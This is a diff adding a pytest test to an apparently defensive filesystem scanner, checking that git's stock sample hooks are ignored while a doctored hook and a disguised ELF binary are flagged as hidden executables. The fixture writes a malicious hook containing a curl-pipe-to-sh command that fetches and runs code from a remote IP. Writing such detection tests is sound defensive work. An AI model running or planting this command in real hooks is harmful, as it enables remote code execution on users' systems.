@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import os
 import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -184,3 +185,24 @@ def test_command_patterns_flag_payloads(line: str, kind: str) -> None:
 )
 def test_command_patterns_ignore_admin_lines(line: str) -> None:
     assert suspicious_command(line) is None
+
+
+def test_git_hook_samples_of_a_clone_in_tmp_are_not_hidden_executables(tmp_path: Path) -> None:
+    """``git init`` under /tmp copies git's executable ``*.sample`` hooks into a dot
+    directory: not a hidden executable. A sample-named file with a payload, and an ELF
+    binary under a sample name, still are."""
+    root = tmp_path / "root"
+    _base(root)
+    repo = root / "tmp/build/app"
+    repo.mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    samples = sorted(p.name for p in (repo / ".git/hooks").glob("*.sample"))
+    assert len(samples) >= 10
+    doctored = root / "tmp/other/.git/hooks"
+    _write(root, "/tmp/other/.git/hooks/pre-commit.sample",
+           "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n", 0o755)
+    _write(root, "/tmp/other/.git/hooks/update.sample", ELF, 0o755)
+    findings = scan_filesystem(DirectoryFileSystem(str(root)), ["PATH=/usr/bin"])
+    hidden = {f.location.path for f in findings if f.rule_id == "SW-BD-037"}
+    assert hidden == {str("/" / doctored.relative_to(root) / name)
+                      for name in ("pre-commit.sample", "update.sample")}
